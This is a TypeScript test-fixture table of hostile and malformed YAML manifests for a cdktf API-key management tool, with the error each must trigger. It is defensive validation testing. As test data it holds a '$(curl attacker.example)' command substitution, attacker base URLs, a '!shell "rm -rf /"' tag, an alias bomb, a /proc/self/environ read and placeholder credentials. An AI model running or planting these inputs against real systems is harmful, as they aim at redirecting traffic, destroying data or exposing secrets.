/**
 * Hostile and malformed key manifests, as a table other suites can extend
 * (the CLI's drift command reads the same manifests). Each entry is either
 * manifest text or a file the case makes itself (a FIFO, a device...), with
 * what the error must say: a pattern, and the line it must point at (or
 * undefined when the problem is the file itself, not a line of it).
 */
import { Token } from 'cdktf';
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const mkfifoSync = (path: string): void => {
  execFileSync('mkfifo', [path]);
};

export interface HostileManifest {
  readonly name: string;
  /** Manifest text, or a function making the file in `dir` and returning its path. */
  readonly input: string | ((dir: string) => string | undefined);
  /** What the error must say. */
  readonly message: RegExp;
  /** The line the error points at; undefined for a problem with the file as a whole. */
  readonly line?: number;
  /** Text that must never appear in the output (a pasted credential, a huge value). */
  readonly neverShown?: string;
  /** Run through the real cdktf app entry point too, not only in process. */
  readonly viaApp?: boolean;
}

const header = 'version: 1\norganizations:\n';
/** An OpenAI organization whose line 5 is `extra` (lines 1-4 fixed). */
const openai = (extra: string, name = 'acme'): string =>
  `${header}  - name: ${name}\n    vendor: openai\n${extra}`;
const openaiKey = (nameYaml: string): string => openai(`    adminKeys:\n      - name: ${nameYaml}\n`); // the name is on line 6
const edge = (extra: string): string => `${header}  - name: edge\n    vendor: edgeimpulse\n    organizationId: 101\n    apiKeyEnv: EDGE_EI_API_KEY\n${extra}`;
const atlas = (extra: string, auth = '    auth: { publicKeyEnv: A_ATLAS_PUBLIC_KEY, privateKeyEnv: A_ATLAS_PRIVATE_KEY }\n'): string =>
  `${header}  - name: atlas\n    vendor: atlas\n    organizationId: 5f1e2d3c4b5a69788796a5b4\n${auth}${extra}`;

const OPENAI_KEY = `sk-admin-${'Q7x'.repeat(12)}`;
const EI_KEY = `ei_${'4f'.repeat(20)}`;
const ATLAS_SECRET = `mdb_sa_sk_${'Zq9'.repeat(10)}`;
const ATLAS_PRIVATE = '3f2a1b4c-1234-4abc-8def-db2c132ca78d';
/** An age identity (made for these tests, used nowhere), and a recipient (a public key). */
const AGE_IDENTITY = 'AGE-SECRET-KEY-1ZNR2U0LGNU60XJ25WFR9DSXHNLGCFE0DML4RHV4V3RQPQSG95RNSR7T0GN';
const AGE_RECIPIENT = 'age1uxfjfkrz0vk4aayj878fuv7pvtpk00z8v9kwpd2p67crmaz8dpaqmu6l4c';
/** What cdktf writes for a number token inside a string: a double near -1.8e+289. */
export const NUMBER_TOKEN_TEXT = String(Token.asNumber({ resolve: () => 1 }));
const HUGE_NAME = 'n'.repeat(300 * 1024);

const BASE_URL = /baseUrl: is not allowed in a manifest: base URLs come from the operator's environment \(OPENAI_BASE_URL, EDGEIMPULSE_BASE_URL, MONGODB_ATLAS_BASE_URL\)/;
const POLICY = (field: string, suffix: string) => new RegExp(`${field.replace(/[.[\]]/g, '\\$&')}: names \\w+, but an? \\w+ variable must end with ${suffix}`);
const TOKEN = /contains a cdktf token marker/;
const CONTROL = /contains the control character U\+/;
const SECRET = /looks like a credential; never put secrets in a manifest/;

function aliasBomb(): string {
  let text = 'a0: &a0 [x, x, x, x, x, x, x, x, x]\n';
  for (let level = 1; level < 10; level++) text += `a${level}: &a${level} [${Array(9).fill(`*a${level - 1}`).join(', ')}]\n`;
  return `${text}version: 1\norganizations: []\n`;
}

const nested = (depth: number): string => `${header}  - name: acme\n    vendor: openai\n    adminKeys: ${'['.repeat(depth)}${']'.repeat(depth)}\n`;

function file(name: string, content: string | Buffer): (dir: string) => string {
  return (dir) => {
    const path = join(dir, name);
    writeFileSync(path, content);
    return path;
  };
}

export const HOSTILE_MANIFESTS: readonly HostileManifest[] = [
  // Base URLs come from the operator, never from a manifest.
  { name: 'baseUrl in an OpenAI organization', input: openai('    baseUrl: https://attacker.example/v1\n'), message: BASE_URL, line: 5, viaApp: true },
  { name: 'baseUrl in an Edge Impulse organization', input: edge('    baseUrl: http://attacker.example/v1\n'), message: BASE_URL, line: 7 },
  { name: 'baseUrl in an Atlas organization', input: atlas('    baseUrl: https://attacker.example\n'), message: BASE_URL, line: 7 },
  { name: 'baseUrl with a loopback URL', input: openai('    baseUrl: http://127.0.0.1:1/v1\n'), message: BASE_URL, line: 5 },
  { name: 'baseUrl that is not even a URL', input: openai('    baseUrl: 42\n'), message: BASE_URL, line: 5 },
  // Credential variables follow the operator's policy.
  { name: 'adminKeyEnv: GITHUB_TOKEN', input: openai('    adminKeyEnv: GITHUB_TOKEN\n'), message: POLICY('organizations[0].adminKeyEnv', '_OPENAI_ADMIN_KEY'), line: 5, viaApp: true },
  { name: 'adminKeyEnv: AWS_SECRET_ACCESS_KEY', input: openai('    adminKeyEnv: AWS_SECRET_ACCESS_KEY\n'), message: POLICY('organizations[0].adminKeyEnv', '_OPENAI_ADMIN_KEY'), line: 5, viaApp: true },
  { name: 'apiKeyEnv: AWS_SECRET_ACCESS_KEY', input: `${header}  - name: edge\n    vendor: edgeimpulse\n    organizationId: 101\n    apiKeyEnv: AWS_SECRET_ACCESS_KEY\n`, message: POLICY('organizations[0].apiKeyEnv', '_EI_API_KEY or _EDGEIMPULSE_API_KEY'), line: 6 },
  { name: 'apiKeyEnv names an OpenAI variable', input: `${header}  - name: edge\n    vendor: edgeimpulse\n    organizationId: 101\n    apiKeyEnv: ACME_OPENAI_ADMIN_KEY\n`, message: POLICY('organizations[0].apiKeyEnv', '_EI_API_KEY'), line: 6 },
  { name: 'auth.publicKeyEnv: GITHUB_TOKEN', input: atlas('', '    auth: { publicKeyEnv: GITHUB_TOKEN, privateKeyEnv: A_ATLAS_PRIVATE_KEY }\n'), message: POLICY('organizations[0].auth.publicKeyEnv', '_ATLAS_PUBLIC_KEY'), line: 6 },
  { name: 'auth.privateKeyEnv: NPM_TOKEN', input: atlas('', '    auth: { publicKeyEnv: A_ATLAS_PUBLIC_KEY, privateKeyEnv: NPM_TOKEN }\n'), message: POLICY('organizations[0].auth.privateKeyEnv', '_ATLAS_PRIVATE_KEY'), line: 6 },
  { name: 'auth.clientIdEnv: HOME', input: atlas('', '    auth: { clientIdEnv: HOME, clientSecretEnv: A_ATLAS_CLIENT_SECRET }\n'), message: POLICY('organizations[0].auth.clientIdEnv', '_ATLAS_CLIENT_ID'), line: 6 },
  { name: 'auth.clientSecretEnv: ACTIONS_RUNTIME_TOKEN', input: atlas('', '    auth: { clientIdEnv: A_ATLAS_CLIENT_ID, clientSecretEnv: ACTIONS_RUNTIME_TOKEN }\n'), message: POLICY('organizations[0].auth.clientSecretEnv', '_ATLAS_CLIENT_SECRET'), line: 6 },
  { name: 'adminKeyEnv holds a pasted OpenAI admin key', input: openai(`    adminKeyEnv: ${OPENAI_KEY}\n`), message: SECRET, line: 5, neverShown: OPENAI_KEY, viaApp: true },
  { name: 'apiKeyEnv holds a pasted Edge Impulse key', input: `${header}  - name: edge\n    vendor: edgeimpulse\n    organizationId: 101\n    apiKeyEnv: ${EI_KEY}\n`, message: SECRET, line: 6, neverShown: EI_KEY },
  { name: 'clientSecretEnv holds a pasted Atlas service-account secret', input: atlas('', `    auth: { clientIdEnv: A_ATLAS_CLIENT_ID, clientSecretEnv: ${ATLAS_SECRET} }\n`), message: SECRET, line: 6, neverShown: ATLAS_SECRET },
  { name: 'privateKeyEnv holds a pasted Atlas private key', input: atlas('', `    auth: { publicKeyEnv: A_ATLAS_PUBLIC_KEY, privateKeyEnv: ${ATLAS_PRIVATE} }\n`), message: SECRET, line: 6, neverShown: ATLAS_PRIVATE },
  { name: 'adminKeyEnv is a shell command', input: openai('    adminKeyEnv: "$(curl attacker.example)"\n'), message: /adminKeyEnv: must be the name of an environment variable/, line: 5 },
  { name: 'adminKeyEnv is empty', input: openai('    adminKeyEnv: ""\n'), message: /adminKeyEnv: must be the name of an environment variable/, line: 5 },
  { name: 'adminKeyEnv is longer than 128 characters', input: openai(`    adminKeyEnv: ${'A'.repeat(120)}_OPENAI_ADMIN_KEY\n`), message: /at most 128 characters/, line: 5 },
  { name: 'adminKeyEnv is a number', input: openai('    adminKeyEnv: 42\n'), message: /adminKeyEnv: must be the name of an environment variable/, line: 5 },
  { name: 'adminKeyEnv is a list', input: openai('    adminKeyEnv: [A_OPENAI_ADMIN_KEY]\n'), message: /adminKeyEnv: must be the name of an environment variable/, line: 5 },
  // cdktf token markers would become references to other resources (their secrets included).
  { name: 'a key name holding a string token marker', input: openaiKey('"${TfToken[TOKEN.1]}"'), message: TOKEN, line: 6, viaApp: true },
  { name: 'a key name holding a list token marker', input: openaiKey('"#{TfToken[TOKEN.2]}"'), message: TOKEN, line: 6 },
  { name: 'a key name holding a map token marker', input: openaiKey('"&{TfToken[TOKEN.3]}"'), message: TOKEN, line: 6 },
  { name: 'a key name holding an encoded number token', input: openaiKey(`"x${NUMBER_TOKEN_TEXT}"`), message: TOKEN, line: 6 },
  { name: 'an Atlas description holding a token marker', input: atlas('    keys:\n      - name: k\n        description: "a ${TfToken[TOKEN.9]}"\n        roles: [ORG_READ_ONLY]\n'), message: TOKEN, line: 9 },
  { name: 'ignoreUndeclaredNames holding a token marker', input: openai('    ignoreUndeclaredNames: ["${TfToken[TOKEN.4]}"]\n'), message: TOKEN, line: 5 },
  { name: 'a project id holding a token marker', input: openai('    projects:\n      - id: "proj_${TfToken[TOKEN.5]}"\n'), message: TOKEN, line: 6 },
  // Numbers are bounded whole numbers, never near cdktf's number tokens.
  { name: 'ttlSeconds is a number token double', input: edge(`    keys:\n      - name: k\n        role: admin\n        ttlSeconds: ${NUMBER_TOKEN_TEXT}\n`), message: /ttlSeconds: must be a number of seconds: a whole number, at least 1/, line: 10 },
  { name: 'expiresInSeconds is a number token double', input: openai(`    adminKeys:\n      - name: k\n        expiresInSeconds: ${NUMBER_TOKEN_TEXT}\n`), message: /expiresInSeconds: must be a whole number from 1 to 31536000 seconds/, line: 7 },
  { name: 'organizationId is 1e300', input: `${header}  - name: edge\n    vendor: edgeimpulse\n    organizationId: 1e300\n    apiKeyEnv: EDGE_EI_API_KEY\n`, message: /organizationId: must be an Edge Impulse organization id: a whole number, at least 1/, line: 5 },
  { name: 'organizationId is beyond 2^53', input: `${header}  - name: edge\n    vendor: edgeimpulse\n    organizationId: 9007199254740993\n    apiKeyEnv: EDGE_EI_API_KEY\n`, message: /organizationId: must be/, line: 5 },
  { name: 'organizationId is negative', input: `${header}  - name: edge\n    vendor: edgeimpulse\n    organizationId: -1\n    apiKeyEnv: EDGE_EI_API_KEY\n`, message: /organizationId: must be an Edge Impulse organization id: a whole number, at least 1 \(got -1\)/, line: 5 },
  { name: 'expiresInSeconds is .nan', input: openai('    adminKeys:\n      - name: k\n        expiresInSeconds: .nan\n'), message: /expiresInSeconds: must be a whole number of seconds/, line: 7 },
  { name: 'expiresInSeconds is .inf', input: openai('    adminKeys:\n      - name: k\n        expiresInSeconds: .inf\n'), message: /expiresInSeconds: must be a whole number of seconds/, line: 7 },
  { name: 'expiresInSeconds beyond a year', input: openai('    adminKeys:\n      - name: k\n        expiresInSeconds: 31536001\n'), message: /expiresInSeconds: must be a whole number from 1 to 31536000 seconds \(got 31536001\)/, line: 7 },
  { name: 'ttlSeconds beyond 2^53', input: edge('    keys:\n      - name: k\n        role: admin\n        ttlSeconds: 9007199254740993\n'), message: /ttlSeconds: must be a number of seconds: a whole number, at least 1/, line: 10 },
  { name: 'expiresInSeconds as a string', input: openai('    adminKeys:\n      - name: k\n        expiresInSeconds: "60"\n'), message: /expiresInSeconds: must be a whole number of seconds/, line: 7 },
  // Rotations: whole durations with a unit, every at least 1m, overlap shorter than every.
  { name: 'a rotation every 90 (no unit)', input: openai('    adminKeys:\n      - name: k\n        rotation: { every: 90, overlap: 7d }\n'), message: /adminKeys\[0\]\.rotation\.every: must be a duration with its unit, s, m, h or d, such as 90d \(got 90\)/, line: 7 },
  { name: 'a rotation overlap of -1d', input: openai('    adminKeys:\n      - name: k\n        rotation: { every: 90d, overlap: -1d }\n'), message: /rotation\.overlap: must be a duration: a whole number and a unit/, line: 7 },
  { name: 'a rotation every 1y', input: openai('    adminKeys:\n      - name: k\n        rotation: { every: 1y, overlap: 1d }\n'), message: /rotation\.every: must be a duration: a whole number and a unit, s, m, h or d, such as "90d" or "12h" \(got "1y"\)/, line: 7 },
  { name: 'a rotation every 0m', input: edge('    keys:\n      - name: k\n        role: admin\n        rotation: { every: 0m, overlap: 0s }\n'), message: /keys\[0\]\.rotation\.every: must be at least 1m \(got "0m"\)/, line: 10 },
  { name: 'a rotation overlap of 1.5d', input: atlas('    rotation: { every: 90d, overlap: 1.5d }\n'), message: /organizations\[0\]\.rotation\.overlap: must be a duration/, line: 7 },
  { name: 'a rotation every 30s (under a minute)', input: openai('    rotation: { every: 30s, overlap: 0s }\n'), message: /organizations\[0\]\.rotation\.every: must be at least 1m \(got "30s"\)/, line: 5 },
  { name: 'a rotation whose overlap is not shorter than every', input: openai('    projects:\n      - id: proj_abc\n        keys:\n          - name: svc\n            rotation: { every: 7d, overlap: 7d }\n'), message: /keys\[0\]\.rotation\.overlap: overlap \(7d\) must be shorter than every \(7d\)/, line: 9 },
  { name: 'a rotation without overlap', input: openai('    adminKeys:\n      - name: k\n        rotation: { every: 7d }\n'), message: /rotation\.overlap: is required: how long the old key keeps working/, line: 7 },
  { name: 'a rotation that is a string', input: openai('    adminKeys:\n      - name: k\n        rotation: 90d\n'), message: /rotation: must be a mapping with every and overlap/, line: 7 },
  // Pruning: a known policy, a bounded limit, a duration.
  { name: 'undeclaredKeys: delete', input: openai('    undeclaredKeys: delete\n'), message: /undeclaredKeys: must be warn, fail, prune or off/, line: 5 },
  { name: 'pruneLimit: 0', input: openai('    undeclaredKeys: prune\n    pruneLimit: 0\n'), message: /pruneLimit: must be a whole number from 1 to 1000 keys per apply \(got 0\)/, line: 6 },
  { name: 'pruneLimit: -5', input: edge('    undeclaredKeys: prune\n    pruneLimit: -5\n'), message: /pruneLimit: must be a whole number from 1 to 1000/, line: 8 },
  { name: 'pruneLimit: 1e9', input: atlas('    undeclaredKeys: prune\n    pruneLimit: 1000000000\n'), message: /pruneLimit: must be a whole number from 1 to 1000 keys per apply \(got 1000000000\)/, line: 8 },
  { name: 'pruneMinAge: an hour', input: openai('    undeclaredKeys: prune\n    pruneMinAge: an hour\n'), message: /pruneMinAge: must be a duration/, line: 6 },
  // Secret recipients: age recipients (age1...), at least one, each once; an identity is refused and never repeated.
  { name: 'an age identity as a key\'s recipient', input: openai(`    adminKeys:\n      - name: k\n        secretRecipients: [${AGE_IDENTITY}]\n`), message: SECRET, line: 7, neverShown: AGE_IDENTITY.slice(15), viaApp: true },
  { name: 'a malformed recipient on an organization', input: edge('    secretRecipients:\n      - age1notarecipient\n'), message: /organizations\[0\]\.secretRecipients\[0\]: must be an age recipient such as the "Public key: age1\.\.\." line age-keygen prints .*\(got "age1notarecipient"\)/, line: 8 },
  { name: 'an SSH key as a recipient', input: atlas(`    keys:\n      - name: k\n        roles: [ORG_READ_ONLY]\n        secretRecipients:\n          - ${AGE_RECIPIENT}\n          - ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHf0vJ ci@host\n`), message: /keys\[0\]\.secretRecipients\[1\]: is an SSH public key/, line: 12 },
  { name: 'an empty list of recipients', input: openai('    secretRecipients: []\n'), message: /organizations\[0\]\.secretRecipients: must list at least one age recipient/, line: 5 },
  { name: 'a recipient listed twice', input: openai(`    projects:\n      - id: proj_abc\n        keys:\n          - name: svc\n            secretRecipients:\n              - ${AGE_RECIPIENT}\n              - ${AGE_RECIPIENT}\n`), message: /keys\[0\]\.secretRecipients\[1\]: repeats an earlier recipient/, line: 11 },
  { name: 'recipients as one string', input: openai(`    secretRecipients: ${AGE_RECIPIENT}\n`), message: /secretRecipients: must be a list of age recipients/, line: 5 },
  // Names: bounded by the vendor's limit, printable, one line.
  { name: 'a 300 KB key name', input: openaiKey(HUGE_NAME), message: /adminKeys\[0\]\.name: must be at most 256 characters \(it has 307200\)/, line: 6, neverShown: 'n'.repeat(1000), viaApp: true },
  { name: 'an OpenAI admin key name of 257 characters', input: openaiKey('a'.repeat(257)), message: /must be at most 256 characters \(it has 257\)/, line: 6 },
  { name: 'an OpenAI project key name of 257 characters', input: openai(`    projects:\n      - id: proj_abc\n        keys:\n          - name: ${'p'.repeat(257)}\n`), message: /projects\[0\]\.keys\[0\]\.name: must be at most 256 characters \(it has 257\)/, line: 8 },
  { name: 'an Edge Impulse key name of 257 characters', input: edge(`    keys:\n      - name: ${'e'.repeat(257)}\n        role: admin\n`), message: /keys\[0\]\.name: must be at most 256 characters \(it has 257\)/, line: 8 },
  { name: 'an Atlas key name of 251 characters', input: atlas(`    keys:\n      - name: ${'k'.repeat(251)}\n        roles: [ORG_READ_ONLY]\n`), message: /keys\[0\]\.name: must be 1 to 250 characters long \(it has 251\)/, line: 8 },
  { name: 'an Atlas description of 251 characters', input: atlas(`    keys:\n      - name: k\n        description: ${'d'.repeat(251)}\n        roles: [ORG_READ_ONLY]\n`), message: /description: must be 1 to 250 characters long \(it has 251\)/, line: 9 },
  { name: 'an ignored name of 300 characters', input: openai(`    ignoreUndeclaredNames: [${'i'.repeat(300)}]\n`), message: /ignoreUndeclaredNames\[0\]: must be at most 256 characters \(it has 300\)/, line: 5 },
  { name: 'a key name with a NUL character', input: openaiKey('"a\\0b"'), message: CONTROL, line: 6 },
  { name: 'a key name with a newline', input: openaiKey('"a\\nb"'), message: CONTROL, line: 6 },
  { name: 'a key name with a tab', input: openaiKey('"a\\tb"'), message: CONTROL, line: 6 },
  { name: 'a key name with an ANSI escape sequence', input: openaiKey('"\\e[31mred"'), message: CONTROL, line: 6 },
  { name: 'a key name with a right-to-left override', input: openaiKey('"abc\u202Edef"'), message: CONTROL, line: 6 },
  { name: 'a key name with a C1 control character', input: openaiKey('"a\\x85b"'), message: CONTROL, line: 6 },
  { name: 'an Atlas description spanning lines', input: atlas('    keys:\n      - name: k\n        description: |\n          line one\n          line two\n        roles: [ORG_READ_ONLY]\n'), message: CONTROL, line: 9 },
  { name: 'a key name that is only spaces', input: openaiKey('"   "'), message: /adminKeys\[0\]\.name: must not be empty/, line: 6 },
  { name: 'a key name that is a number', input: openaiKey('123'), message: /adminKeys\[0\]\.name: must be a string/, line: 6 },
  { name: 'a key name that is null', input: openaiKey('null'), message: /adminKeys\[0\]\.name: must be a string/, line: 6 },
  { name: 'a key name that is a mapping', input: openaiKey('{ a: b }'), message: /adminKeys\[0\]\.name: must be a string/, line: 6 },
  { name: 'a key name that looks like a credential', input: openaiKey(OPENAI_KEY), message: SECRET, line: 6, neverShown: OPENAI_KEY },
  { name: 'an organization name holding ${', input: openai('', '"a${b}"'), message: /organizations\[0\]\.name: must be a connection name/, line: 3 },
  { name: 'an organization name of 65 characters', input: openai('', `a${'b'.repeat(64)}`), message: /organizations\[0\]\.name: must be a connection name: .*up to 63/, line: 3 },
  { name: 'an organization name with a space', input: openai('', '"a b"'), message: /organizations\[0\]\.name: must be a connection name/, line: 3 },
  // Every address unique: clashes across organizations name both declarations.
  {
    name: 'organization a key b_c and organization a_b key c',
    input: `${header}  - name: a\n    vendor: openai\n    adminKeys:\n      - name: b_c\n  - name: a_b\n    vendor: openai\n    adminKeys:\n      - name: c\n`,
    message: /organizations\[1\]\.adminKeys\[0\]\.name: key "c" would share the resource address apikeys_openai_admin_key\.a_b_c and the output a_b_c_secret with key "b_c" declared at organizations\[0\]\.adminKeys\[0\]\.name \(\S+:6:15\)/,
    line: 10, viaApp: true,
  },
  {
    name: 'an OpenAI key and an Edge Impulse key with the same output name',
    input: `${header}  - name: a\n    vendor: openai\n    adminKeys:\n      - name: b_c\n  - name: a_b\n    vendor: edgeimpulse\n    organizationId: 1\n    apiKeyEnv: A_EI_API_KEY\n    keys:\n      - name: c\n        role: admin\n`,
    message: /key "c" would share the output a_b_c_secret with key "b_c" declared at organizations\[0\]\.adminKeys\[0\]\.name \(\S+:6:15\)/,
    line: 12,
  },
  {
    name: 'a project key and another organization\'s admin key with the same address',
    input: `${header}  - name: a\n    vendor: openai\n    projects:\n      - id: proj_x\n        keys:\n          - name: y\n  - name: a_proj_x\n    vendor: openai\n    adminKeys:\n      - name: y\n`,
    message: /organizations\[1\]\.adminKeys\[0\]\.name: key "y" would share the output a_proj_x_y_secret with key "y" declared at organizations\[0\]\.projects\[0\]\.keys\[0\]\.name/,
    line: 12,
  },
  {
    name: 'names that clash only once spaces become underscores',
    input: `${header}  - name: a\n    vendor: atlas\n    organizationId: 5f1e2d3c4b5a69788796a5b4\n    keys:\n      - name: b c\n        roles: [ORG_READ_ONLY]\n  - name: a_b\n    vendor: atlas\n    organizationId: 6a2b3c4d5e6f708192a3b4c5\n    keys:\n      - name: c\n        roles: [ORG_READ_ONLY]\n`,
    message: /key "c" would share the resource address apikeys_atlas_organization_key\.a_b_c and the output a_b_c_secret with key "b c"/,
    line: 13,
  },
  { name: 'organization names differing only in case', input: `${header}  - name: Acme\n    vendor: openai\n  - name: acme\n    vendor: openai\n`, message: /organizations\[1\]\.name: "acme" is already used by organizations\[0\]/, line: 5 },
  // YAML that tries to exhaust the parser.
  { name: 'an undefined alias', input: `${header}  - name: acme\n    vendor: openai\n    adminKeys: [{ name: *nope }]\n`, message: /YAML: Unresolved alias .*nope; define the anchor/, line: 5, viaApp: true },
  { name: 'an alias bomb', input: aliasBomb(), message: /YAML: aliases expand too much \(an "alias bomb"\)/, line: 2, viaApp: true },
  { name: '100 000 nested flow sequences', input: nested(100_000), message: /YAML: the document nests too deeply/, line: 5, viaApp: true },
  { name: '20 nested sequences', input: nested(20), message: /nests deeper than 16 levels/, line: 5 },
  { name: 'a syntax error', input: `${header}  - name: [unclosed\n`, message: /YAML: /, line: 4 },
  { name: 'a duplicate mapping key', input: `${header}  - name: a\n    name: b\n    vendor: openai\n`, message: /YAML: Map keys must be unique/, line: 4 },
  { name: 'two YAML documents', input: `${header}  []\n---\nversion: 1\n`, message: /YAML: Source contains multiple documents/, line: 4 },
  { name: 'a !!binary tag', input: openaiKey('!!binary aGVsbG8='), message: /YAML: .*a manifest holds plain data only/, line: 6 },
  { name: 'a custom tag', input: openaiKey('!shell "rm -rf /"'), message: /YAML: Unresolved tag: !shell.*plain data only/, line: 6 },
  { name: 'a !!js/function tag', input: openaiKey('!!js/function "function () { return 1 }"'), message: /YAML: .*plain data only/, line: 6 },
  { name: 'a merge key (not merged: the copy has no vendor)', input: `${header}  - &org\n    name: a\n    vendor: openai\n  - <<: *org\n    name: b\n`, message: /organizations\[1\]\.vendor: vendor must be one of/, line: 6 },
  { name: 'tab indentation', input: `${header}\t- name: acme\n`, message: /YAML: /, line: 3 },
  { name: 'an empty document', input: '', message: /\(top level\): .*expected object/i },
  { name: 'a list at the top level', input: '- 1\n- 2\n', message: /\(top level\): .*expected object/i, line: 1 },
  { name: 'a scalar at the top level', input: 'hello\n', message: /\(top level\): .*expected object/i, line: 1 },
  { name: 'version as a string', input: 'version: "1"\norganizations: []\n', message: /version: must be 1/, line: 1 },
  { name: 'organizations is null', input: 'version: 1\norganizations:\n', message: /organizations: .*expected array/i, line: 2 },
  { name: 'organizations is a mapping', input: 'version: 1\norganizations: { a: 1 }\n', message: /organizations: .*expected array/i, line: 2 },
  { name: 'an unknown vendor', input: `${header}  - name: acme\n    vendor: github\n`, message: /vendor must be one of: openai, edgeimpulse, atlas/, line: 4 },
  { name: 'no vendor', input: `${header}  - name: acme\n`, message: /vendor must be one of/, line: 3 },
  { name: 'a field name that is a credential', input: openai(`    ${OPENAI_KEY}: 1\n`), message: /has a field name that looks like a credential/, line: 3, neverShown: OPENAI_KEY },
  { name: 'a credential in an unknown field', input: openai(`    token: ${EI_KEY}\n`), message: SECRET, line: 5, neverShown: EI_KEY },
  { name: 'an unknown Atlas role', input: atlas('    keys:\n      - name: k\n        roles: [ORG_SUPERUSER]\n'), message: /roles: contains "ORG_SUPERUSER"; allowed values are ORG_OWNER, ORG_MEMBER/, line: 9 },
  { name: 'a caller-supplied Edge Impulse key', input: edge(`    keys:\n      - name: k\n        role: admin\n        apiKey: ${EI_KEY}\n`), message: /Unrecognized key: "apiKey"/, line: 8, neverShown: EI_KEY },
  // Files that are not manifests.
  { name: 'a FIFO', input: (dir) => { const path = join(dir, 'fifo.yaml'); mkfifoSync(path); return path; }, message: /is a named pipe \(FIFO\); a manifest must be a regular file/, viaApp: true },
  { name: '/dev/zero', input: () => '/dev/zero', message: /is a character device \(such as \/dev\/zero\); a manifest must be a regular file/, viaApp: true },
  { name: 'a directory', input: (dir) => { const path = join(dir, 'manifests'); mkdirSync(path); return path; }, message: /is a directory; a manifest must be a regular file/, viaApp: true },
  { name: 'a symbolic link to /dev/zero', input: (dir) => { const path = join(dir, 'link.yaml'); symlinkSync('/dev/zero', path); return path; }, message: /is a character device/, viaApp: true },
  { name: 'a symbolic link to /dev/random', input: (dir) => { const path = join(dir, 'random.yaml'); symlinkSync('/dev/random', path); return path; }, message: /is a character device/ },
  { name: 'a 5 MB file', input: file('big.yaml', `${header}${'# padding\n'.repeat(500_000)}`), message: /is 5000026 bytes; a manifest may be at most 1048576 bytes \(1 MiB\)/, viaApp: true },
  { name: 'a missing file', input: (dir) => join(dir, 'absent.yaml'), message: /cannot read the manifest: ENOENT/ },
  { name: '/proc/self/environ (the process environment)', input: () => '/proc/self/environ', message: /contains a NUL byte: this looks like a binary file/, line: 1, viaApp: true },
  { name: 'a UTF-16 file', input: file('utf16.yaml', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('version: 1\n', 'utf16le')])), message: /is UTF-16 encoded; save the manifest as UTF-8/, line: 1 },
  { name: 'invalid UTF-8 on line 3', input: file('latin1.yaml', Buffer.concat([Buffer.from(`${header}  - name: caf`), Buffer.from([0xe9]), Buffer.from('\n')])), message: /is not valid UTF-8/, line: 3, viaApp: true },
  { name: 'a binary file', input: file('binary.yaml', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00])), message: /contains a NUL byte/, line: 1 },
];

/** Inputs that look odd but are allowed, each with the reason. */
export const ALLOWED_ODDITIES: readonly { name: string; input: string | ((dir: string) => string); reason: string }[] = [
  { name: 'template sequences in names', input: openaiKey('"x-${file(\\"/etc/hostname\\")} %{ if true }y%{ endif }"'), reason: 'vendors accept them; the bindings escape them, so they stay literal' },
  { name: 'a UTF-8 byte order mark', input: file('bom.yaml', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(openaiKey('ci'))])), reason: 'YAML allows it and Windows editors write it' },
  { name: 'Windows line endings', input: openaiKey('ci').replace(/\n/g, '\r\n'), reason: 'editors on Windows write them' },
  { name: 'a symbolic link to a regular file', input: (dir) => { const target = file('target.yaml', openaiKey('ci'))(dir); const path = join(dir, 'link-ok.yaml'); symlinkSync(target, path); return path; }, reason: 'common in repositories; the target is checked, not the link' },
  { name: 'a few aliases', input: `${header}  - name: a\n    vendor: atlas\n    organizationId: 5f1e2d3c4b5a69788796a5b4\n    keys:\n      - name: x\n        roles: &ro [ORG_READ_ONLY]\n      - name: y\n        roles: *ro\n`, reason: 'sharing a role list is what aliases are for' },
  { name: 'non-ASCII names', input: openaiKey('"clé 🔑 ключ"'), reason: 'printable Unicode is a valid name' },
];
